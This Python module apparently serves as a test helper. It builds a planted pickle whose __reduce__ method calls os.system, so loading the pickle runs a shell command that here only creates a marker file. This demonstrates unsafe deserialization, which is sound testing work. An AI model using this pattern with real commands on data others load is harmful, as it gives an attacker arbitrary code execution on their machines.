"""planted_pickle: a pickle that runs a command when something loads it, as an attacker would leave it."""

from __future__ import annotations

import os
import pickle
from pathlib import Path
from typing import Any


class _Command:
    def __init__(self, touched: Path) -> None:
        self._touched = touched

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self._touched}",)


def planted_pickle(touched: Path) -> bytes:
    """A pickle whose loading makes this file."""
    return pickle.dumps(_Command(touched))
